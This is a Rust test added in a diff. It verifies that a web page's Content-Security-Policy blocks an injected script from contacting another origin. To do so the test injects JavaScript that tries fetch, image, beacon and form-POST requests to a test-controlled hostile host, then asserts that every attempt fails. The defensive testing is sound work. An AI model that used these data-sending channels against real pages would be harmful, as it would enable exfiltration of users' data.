@@ -994,3 +994,44 @@ async fn related_seeds_are_refused_by_the_cli_and_the_page_before_any_query() {
     );
     c.close().await.unwrap();
 }
+
+/// The page's Content-Security-Policy lets the browser enforce what the page promises: a
+/// script injected into it cannot send anything to another origin — not by `fetch`, an image,
+/// a beacon or a form — and the page itself still works under the policy.
+#[tokio::test(flavor = "multi_thread")]
+async fn an_injected_script_cannot_send_a_request_elsewhere() {
+    let real = browser::server();
+    let (base, hostile) = hostile(&real.base).await;
+    let (_driver, c) = browser::browser().await;
+    browser::open_page(&c, &base).await;
+    let other = &hostile.other;
+    let script = format!(
+        "const o = {other:?};
+         const tries = [];
+         tries.push(fetch(o + '/fetch', {{ mode: 'no-cors' }}).then(() => 'sent', () => 'blocked'));
+         tries.push(new Promise((res) => {{ const i = new Image(); i.onload = () => res('sent');
+           i.onerror = () => res('blocked'); i.src = o + '/img'; }}));
+         let beacon = 'blocked';
+         try {{ if (navigator.sendBeacon(o + '/beacon', 'x')) beacon = 'queued'; }} catch {{}}
+         const f = document.createElement('form'); f.method = 'POST'; f.action = o + '/form';
+         document.body.append(f);
+         try {{ f.submit(); }} catch {{}}
+         return Promise.all(tries).then((r) => r.concat([beacon]));"
+    );
+    let results = js(&c, &script).await;
+    assert_eq!(results[0], json!("blocked"), "fetch: {results}");
+    assert_eq!(results[1], json!("blocked"), "image: {results}");
+    tokio::time::sleep(Duration::from_millis(1500)).await;
+    assert_eq!(
+        hostile.other_hits.load(Ordering::SeqCst),
+        0,
+        "a request reached the other origin: {results}"
+    );
+    // The page itself works under the policy: a private search end to end.
+    browser::open_page(&c, &base).await;
+    let (file, _) = browser::image_file(2);
+    load_photo(&c, &file).await;
+    assert_eq!(browser::search(&c).await.len(), 8);
+    let _ = std::fs::remove_file(&file);
+    c.close().await.unwrap();
+}
